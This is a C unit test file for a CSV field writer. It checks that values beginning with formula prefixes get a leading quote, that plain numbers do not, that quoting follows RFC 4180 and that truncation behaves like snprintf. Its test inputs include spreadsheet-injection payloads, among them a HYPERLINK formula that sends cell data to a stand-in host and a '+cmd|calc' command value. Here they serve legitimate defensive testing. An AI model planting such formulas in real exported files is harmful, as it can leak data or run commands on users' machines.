/*
 * test_csv_out.c — the CSV field writer every output goes through:
 * formula prefixes from the data are guarded with a leading quote, plain
 * numbers are not, quoting still follows RFC 4180, the guard reverses by
 * dropping one quote, and a short buffer is filled as snprintf would.
 */
#include <string.h>

#include "buf.h"
#include "csv.h"
#include "testutil.h"

static void field_is(const char *in, const char *want) {
  char got[256];
  size_t n = sw_csv_field(in, strlen(in), ',', got, sizeof got);
  if (strcmp(got, want) || n != strlen(want))
    fail_msg("field \"%s\": got \"%s\" (%zu bytes), want \"%s\"", in, got, n,
             want);
}

static void test_field_guards_every_formula_prefix(void **state) {
  (void)state;
  field_is("=HYPERLINK(\"http://x.example/?\"&A1,\"click\")",
           "\"'=HYPERLINK(\"\"http://x.example/?\"\"&A1,\"\"click\"\")\"");
  field_is("+cmd|calc", "'+cmd|calc");
  field_is("-2+3", "'-2+3");
  field_is("@SUM(A1:A2)", "'@SUM(A1:A2)");
  field_is("\tx", "'\tx");
  field_is("\r=1", "\"'\r=1\"");
  field_is("-", "'-");
}

static void test_field_keeps_plain_numbers_and_text(void **state) {
  (void)state;
  field_is("-74.5", "-74.5");
  field_is("+1e3", "+1e3");
  field_is("-.5E-2", "-.5E-2");
  field_is("06075", "06075");
  field_is("Cook County", "Cook County");
  field_is("a=b", "a=b");
  field_is("", "");
  field_is("-1e", "'-1e");
  field_is("- 1", "'- 1");
}

/* A leading quote is doubled so that dropping one always gives the
 * original, whether or not it was guarded. */
static void test_field_guard_reverses_by_dropping_one_quote(void **state) {
  (void)state;
  field_is("'=1", "''=1");
  field_is("'plain", "''plain");
}

static void test_field_quotes_as_rfc4180(void **state) {
  (void)state;
  field_is("a,b", "\"a,b\"");
  field_is(" padded ", "\" padded \"");
  field_is("say \"hi\"", "\"say \"\"hi\"\"\"");
  field_is("=a,b", "\"'=a,b\"");
}

static void test_field_fills_a_short_buffer_like_snprintf(void **state) {
  (void)state;
  char small[4];
  assert_int_equal(sw_csv_field("=abcdef", 7, ',', small, sizeof small), 8);
  assert_string_equal(small, "'=a");
  assert_int_equal(sw_csv_field("=abcdef", 7, ',', NULL, 0), 8);
  char one[1] = {'x'};
  assert_int_equal(sw_csv_field("ab", 2, ',', one, 1), 2);
  assert_int_equal(one[0], '\0');
}

/* Rows the reader rebuilds for rejects must round-trip: no guard there. */
static void test_put_field_leaves_text_unguarded(void **state) {
  (void)state;
  sw_buf b = {0};
  assert_true(sw__csv_put_field(&b, "=1", 2, ','));
  assert_true(sw__buf_putc(&b, '|'));
  assert_true(sw__csv_put_cell(&b, "=1", 2, ','));
  assert_string_equal(b.data, "=1|'=1");
  sw__buf_free(&b);
}

int main(void) {
  const struct CMUnitTest tests[] = {
      cmocka_unit_test(test_field_guards_every_formula_prefix),
      cmocka_unit_test(test_field_keeps_plain_numbers_and_text),
      cmocka_unit_test(test_field_guard_reverses_by_dropping_one_quote),
      cmocka_unit_test(test_field_quotes_as_rfc4180),
      cmocka_unit_test(test_field_fills_a_short_buffer_like_snprintf),
      cmocka_unit_test(test_put_field_leaves_text_unguarded),
  };
  return cmocka_run_group_tests(tests, NULL, NULL);
}
